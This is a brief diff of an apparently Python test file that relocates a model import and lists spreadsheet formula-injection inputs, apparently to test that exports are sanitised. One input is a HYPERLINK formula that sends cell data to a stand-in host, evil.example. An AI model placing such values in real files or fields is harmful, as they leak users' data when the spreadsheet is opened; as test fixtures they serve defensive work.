@@ -10,9 +10,9 @@ import zipfile
 import pytest
 from conftest import PASSWORD
 
+from core.models import ROLE_DOCTOR, User, Village
 from server.auth.passwords import hash_password
 from server.extensions import db
-from server.models import ROLE_DOCTOR, User, Village
 
 NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)",
          "\t=1+1", "\r=1+1"]
